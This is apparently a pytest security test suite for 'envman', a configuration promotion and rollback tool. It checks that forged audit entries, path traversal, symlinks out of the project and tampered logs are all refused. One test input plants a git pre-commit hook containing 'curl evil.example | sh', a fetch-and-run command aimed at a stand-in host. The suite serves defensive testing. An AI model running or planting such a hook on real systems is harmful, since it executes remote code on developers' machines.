"""Rollback and promote trust nothing they read: paths are confined, history is verified.

Each test is an attack measured in the security review, run through the command line
in-process: a forged audit line, a committed transaction folder or journal, a tampered
or unsigned entry. The attack must end in a refusal (exit 3 for a path envman does not
own, exit 1 for a history that does not verify) with nothing written anywhere.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import secrets
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from envman import audit
from envman.cli import main

PRODUCTION = "environments/production.toml"
FILES = (PRODUCTION, "wrangler.toml")
LOG = ".envman/audit.jsonl"
KEY = "k3y-for-tests"


@dataclass(frozen=True)
class Run:
    code: int
    out: str
    err: str


@pytest.fixture
def envman(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> Callable[..., Run]:
    """`envman ARGS` in this process, in `project`, with `key` as ENVMAN_AUDIT_KEY."""

    def run(project: Path, *args: str, key: str | None = None) -> Run:
        if key is None:
            monkeypatch.delenv("ENVMAN_AUDIT_KEY", raising=False)
        else:
            monkeypatch.setenv("ENVMAN_AUDIT_KEY", key)
        capsys.readouterr()
        code = main(["-C", str(project), *args])
        out, err = capsys.readouterr()
        assert "Traceback" not in err, err
        return Run(code, out, err)

    return run


@pytest.fixture
def outside(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder outside the project: nothing may ever be written here."""
    return tmp_path_factory.mktemp("outside")


def climb(project: Path, path: Path, start: str = ".") -> str:
    """`path` relative to `project/start`, with `..`: how an attacker names it."""
    return os.path.relpath(path, project / start)


def texts(project: Path) -> dict[str, str]:
    return {name: (project / name).read_text() for name in FILES}


def entries(project: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in (project / LOG).read_text().splitlines()]


def sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def promoted(project: Path, envman: Callable[..., Run], key: str | None = None) -> dict[str, Any]:
    result = envman(
        project, "promote", "staging", "production", "--offline", "--yes", "--reason", "r", key=key
    )
    assert result.code == 0, result.out + result.err
    return entries(project)[-1]


def forge(project: Path, *, data: dict[str, Any], changes: list[audit.Change] | None = None) -> str:
    """Append an entry the way an attacker without the key can: well chained, unsigned."""
    forged = audit.append(
        project / LOG,
        action="promote",
        source="staging",
        target="production",
        changes=changes or [audit.Change("vars.LOG_LEVEL", "warn", "info")],
        reason="looks harmless",
        flags=[],
        context=audit.Context(actor="mallory"),
        key=None,
        data=data,
    )
    return forged.id


def committed_journal(folder: Path, files: dict[str, tuple[str, str]]) -> str:
    """A committed transaction folder as an attacker commits it: name -> (before, after) text."""
    folder.mkdir(parents=True)
    records = {}
    for i, (name, (before, after)) in enumerate(files.items()):
        (folder / f"{i}.txt").write_text(before)
        (folder / f"{i}.next.txt").write_text(after)
        records[name] = {
            "before": sha(before),
            "after": sha(after),
            "backup": f"{i}.txt",
            "next": f"{i}.next.txt",
        }
    manifest = {"id": folder.name, "state": "committed", "files": records}
    (folder / "manifest.json").write_text(json.dumps(manifest))
    return folder.name


# --------------------------------------------------------------------------- writes stay inside


@pytest.mark.parametrize("where", ["relative", "absolute"])
def test_a_forged_transaction_path_is_refused(
    project: Path, outside: Path, envman: Callable[..., Run], where: str
) -> None:
    promoted(project, envman)
    folder = outside / "evil"
    name = climb(project, outside / "pwned.txt")
    committed_journal(folder, {name: ("pwned\n", "")})
    txid = climb(project, folder, ".envman/transactions") if where == "relative" else str(folder)
    files = {name: {"before": sha("pwned\n"), "after": sha("")}}
    forged = forge(project, data={"transaction": txid, "files": files})
    before = texts(project)
    result = envman(project, "rollback", "production", "--yes", "--reason", "x")
    assert result.code == 3, result.out + result.err
    assert f"audit entry {forged}" in result.err
    assert not (outside / "pwned.txt").exists() and texts(project) == before


@pytest.mark.parametrize("name", ["outside", ".git/hooks/pre-commit", "envman.toml"])
def test_a_committed_journal_naming_a_file_envman_does_not_own_is_refused(
    project: Path, outside: Path, envman: Callable[..., Run], name: str
) -> None:
    promoted(project, envman)
    if name == "outside":
        name = climb(project, outside / "pwned.txt")
    (project / ".git/hooks").mkdir(parents=True)
    current = (project / name).read_text() if (project / name).is_file() else ""
    txid = committed_journal(
        project / ".envman/transactions" / secrets.token_hex(8),
        {name: ("#!/bin/sh\ncurl evil.example | sh\n", current)},
    )
    files = {name: {"before": sha("#!/bin/sh\ncurl evil.example | sh\n"), "after": sha(current)}}
    forged = forge(project, data={"transaction": txid, "files": files})
    result = envman(project, "rollback", "production", "--yes", "--reason", "x")
    assert result.code == 3, result.out + result.err
    assert "not a file envman writes" in result.err or "not a plain relative path" in result.err
    assert not (project / ".git/hooks/pre-commit").exists()
    assert not (outside / "pwned.txt").exists()
    assert "curl" not in (project / "envman.toml").read_text()
    assert forged == entries(project)[-1]["id"]  # nothing appended either


def test_an_entry_naming_a_file_outside_is_refused_naming_the_entry(
    project: Path, envman: Callable[..., Run]
) -> None:
    promoted(project, envman)
    forged = forge(project, data={"files": {"../x": {"before": "0" * 64, "after": "0" * 64}}})
    result = envman(project, "rollback", "production", "--yes", "--reason", "x")
    assert result.code == 3 and f"audit entry {forged}" in result.err


def test_the_plan_shown_is_exactly_what_a_rollback_writes(
    project: Path, envman: Callable[..., Run]
) -> None:
    """A consistent forgery: entry and backup agree on digests, the backup holds more."""
    promoted(project, envman)
    current = texts(project)
    evil = current[PRODUCTION].replace(
        'LOG_LEVEL = "info"', 'LOG_LEVEL = "warn"\nDEBUG_DUMP = true'
    )
    txid = committed_journal(
        project / ".envman/transactions" / secrets.token_hex(8),
        {PRODUCTION: (evil, current[PRODUCTION])},
    )
    forge(
        project,
        data={
            "transaction": txid,
            "files": {PRODUCTION: {"before": sha(evil), "after": sha(current[PRODUCTION])}},
        },
        changes=[audit.Change("vars.LOG_LEVEL", "warn", "info")],
    )
    result = envman(project, "rollback", "production", "--yes", "--reason", "x")
    assert result.code == 3, result.out + result.err
    assert "does not restore what the entry recorded" in result.err
    assert "vars.DEBUG_DUMP" in result.err
    assert texts(project) == current


def test_a_rollback_backup_may_not_touch_wrangler_outside_its_section(
    project: Path, envman: Callable[..., Run]
) -> None:
    entry = promoted(project, envman)
    folder = project / ".envman/transactions" / entry["data"]["transaction"]
    manifest = json.loads((folder / "manifest.json").read_text())
    record = manifest["files"]["wrangler.toml"]
    backup = (folder / record["backup"]).read_text()
    evil = backup.replace('main = "src/index.ts"', 'main = "src/evil.ts"', 1)
    assert evil != backup
    (folder / record["backup"]).write_text(evil)
    record["before"] = sha(evil)
    (folder / "manifest.json").write_text(json.dumps(manifest))
    before = texts(project)
    result = envman(project, "rollback", "production", "--yes", "--reason", "x")
    # the journal no longer matches the verified entry's digests
    assert result.code == 3 and "records other files or digests" in result.err
    assert texts(project) == before


@pytest.mark.parametrize("version", [1, 2])
def test_a_committed_pending_journal_is_never_followed_out_of_the_project(
    project: Path, outside: Path, envman: Callable[..., Run], version: int
) -> None:
    folder = project / ".envman/transactions" / secrets.token_hex(8)
    folder.mkdir(parents=True)
    (folder / "0.txt").write_text("pwned\n")
    (folder / "0.next.txt").write_text("")
    record = {"before": sha("pwned\n"), "after": sha(""), "backup": "0.txt"}
    if version == 2:
        record["next"] = "0.next.txt"
    name = climb(project, outside / "pwned.txt")
    manifest = {"id": folder.name, "state": "pending", "files": {name: record}}
    (folder / "manifest.json").write_text(json.dumps({"version": version, **manifest}))
    before = texts(project)
    for command in (
        ["promote", "staging", "production", "--offline", "--yes", "--reason", "x"],
        ["validate"],
    ):
        result = envman(project, *command)
        assert result.code == 3, result.out + result.err
        assert f".envman/transactions/{folder.name}/manifest.json" in result.err
    assert not (outside / "pwned.txt").exists() and texts(project) == before


def test_a_journal_copy_linked_to_a_system_file_is_never_copied_in(
    project: Path, outside: Path, envman: Callable[..., Run]
) -> None:
    system_file = outside / "hostname"
    system_file.write_text("build-host-7\n")
    current = (project / PRODUCTION).read_text()
    folder = project / ".envman/transactions" / secrets.token_hex(8)
    folder.mkdir(parents=True)
    (folder / "0.txt").symlink_to(system_file)
    record = {"before": sha("build-host-7\n"), "after": sha(current), "backup": "0.txt"}
    manifest = {"id": folder.name, "state": "pending", "files": {PRODUCTION: record}}
    (folder / "manifest.json").write_text(json.dumps(manifest))
    result = envman(
        project, "promote", "staging", "production", "--offline", "--yes", "--reason", "x"
    )
    assert result.code == 3, result.out + result.err
    assert (project / PRODUCTION).read_text() == current


@pytest.mark.parametrize("link", [".envman", PRODUCTION])
def test_state_or_environment_file_linked_out_of_the_project_is_refused(
    project: Path, outside: Path, envman: Callable[..., Run], link: str
) -> None:
    path = project / link
    if link == ".envman":
        path.symlink_to(outside, target_is_directory=True)
    else:
        shutil.move(path, outside / "production.toml")
        path.symlink_to(outside / "production.toml")
    listing = sorted(p.name for p in outside.iterdir())
    original = {p.name: p.read_text() for p in outside.iterdir() if p.is_file()}
    result = envman(
        project, "promote", "staging", "production", "--offline", "--yes", "--reason", "x"
    )
    assert result.code == 3, result.out + result.err
    assert sorted(p.name for p in outside.iterdir()) == listing
    assert {p.name: p.read_text() for p in outside.iterdir() if p.is_file()} == original


# --------------------------------------------------------------------------- verified history


def test_a_tampered_entry_stops_promote_and_rollback(
    project: Path, envman: Callable[..., Run]
) -> None:
    promoted(project, envman)
    log = project / LOG
    log.write_text(log.read_text().replace('"reason":"r"', '"reason":"edited"'))
    before = texts(project)
    for command in (
        ["promote", "staging", "production", "--offline", "--dry-run"],
        ["rollback", "production", "--yes", "--reason", "x"],
    ):
        result = envman(project, *command)
        assert result.code == 1, result.out + result.err
        assert "does not verify" in result.err and "envman audit verify" in result.err
    assert texts(project) == before


@pytest.mark.parametrize("key", [KEY, None])
def test_a_forged_entry_in_a_signed_log_is_never_rolled_back(
    project: Path, envman: Callable[..., Run], key: str | None
) -> None:
    entry = promoted(project, envman, key=KEY)
    folder = project / ".envman/transactions" / entry["data"]["transaction"]
    before = texts(project)
    # an attacker appends an entry "undoing nothing", pointing at the real backup
    forge(project, data={"transaction": folder.name, "files": entry["data"]["files"]})
    result = envman(project, "rollback", "production", "--yes", "--reason", "x", key=key)
    assert result.code == 1, result.out + result.err
    assert ("not signed" in result.err) and "envman audit verify" in result.err
    assert texts(project) == before


def test_a_signed_log_needs_the_key_to_append(project: Path, envman: Callable[..., Run]) -> None:
    promoted(project, envman, key=KEY)
    rolled = envman(project, "rollback", "production", "--yes", "--reason", "x")
    assert rolled.code == 1 and "ENVMAN_AUDIT_KEY" in rolled.err
    assert len(entries(project)) == 1
    assert envman(project, "rollback", "production", "--yes", "--reason", "x", key=KEY).code == 0


def test_audit_log_and_show_warn_on_a_broken_chain(
    project: Path, envman: Callable[..., Run]
) -> None:
    entry = promoted(project, envman)
    assert "warning" not in envman(project, "audit", "log").err
    log = project / LOG
    log.write_text(log.read_text().replace('"reason":"r"', '"reason":"edited"'))
    for command in (["audit", "log"], ["audit", "show", entry["id"]]):
        result = envman(project, *command)
        assert result.code == 0 and entry["id"] in result.out
        assert "warning: the audit log does not verify" in result.err
        assert "envman audit verify" in result.err


def _sensitive_pin(project: Path) -> None:
    schema = project / "schemas/vars.toml"
    schema.write_text(
        schema.read_text()
        + '\n[vars.SUPPORT_PIN]\ntype = "integer"\nrequired = false\nsensitive = true\n'
    )
    for path, table, value in (
        ("environments/staging.toml", "[vars]\n", 4711),
        ("wrangler.toml", "[env.staging.vars]\n", 4711),
        (PRODUCTION, "[vars]\n", 1234),
        ("wrangler.toml", "[env.production.vars]\n", 1234),
    ):
        file = project / path
        file.write_text(file.read_text().replace(table, f"{table}SUPPORT_PIN = {value}\n", 1))


@pytest.mark.parametrize("key", [None, KEY])
def test_a_short_sensitive_value_cannot_be_brute_forced_from_the_log(
    project: Path, envman: Callable[..., Run], key: str | None
) -> None:
    _sensitive_pin(project)
    promoted(project, envman, key=key)
    (change,) = [c for c in entries(project)[-1]["changes"] if c["path"] == "vars.SUPPORT_PIN"]
    if key is None:
        assert change == {"path": "vars.SUPPORT_PIN", "before": "<redacted>", "after": "<redacted>"}
    else:
        assert change["before"].startswith("hmac-sha256:") != change["after"].startswith("x")
    raw = (project / LOG).read_text()
    for pin in range(10_000):  # the measured attack: every 4-digit value, unkeyed
        digest = hashlib.sha256(audit.canonical(pin)).hexdigest()
        assert digest[:16] not in raw
    for pin in (4711, 1234):  # nowhere as a value; in no line but inside a longer word
        assert not _holds(entries(project), pin)  # (ids carry the time: a-…224711-…)
        assert re.search(rf"(?<![0-9A-Za-z]){pin}(?![0-9A-Za-z])", raw) is None


def _holds(value: Any, pin: int) -> bool:
    """Whether `value`, or any key or value nested in it, is `pin` or its text."""
    if isinstance(value, dict):
        return any(_holds(k, pin) or _holds(v, pin) for k, v in value.items())
    if isinstance(value, list):
        return any(_holds(v, pin) for v in value)
    return value == pin or value == str(pin)


def test_rolling_back_a_redacted_value_without_its_backup_refuses_clearly(
    project: Path, envman: Callable[..., Run]
) -> None:
    _sensitive_pin(project)
    promoted(project, envman)
    shutil.rmtree(project / ".envman/transactions")
    before = texts(project)
    result = envman(project, "rollback", "production", "--yes", "--reason", "x")
    assert result.code == 1, result.out + result.err
    assert "vars.SUPPORT_PIN" in result.err and "<redacted>" in result.err
    assert texts(project) == before


def test_a_legitimate_rollback_shows_and_writes_the_same_steps(
    project: Path, envman: Callable[..., Run]
) -> None:
    original = texts(project)
    promoted(project, envman, key=KEY)
    result = envman(project, "rollback", "production", "--yes", "--reason", "x", key=KEY)
    assert result.code == 0, result.out + result.err
    assert "~ vars.LOG_LEVEL" in result.out and "- vars.FEATURE_NEW_CHARTS" in result.out
    assert texts(project) == original
    assert envman(project, "audit", "verify", key=KEY).code == 0
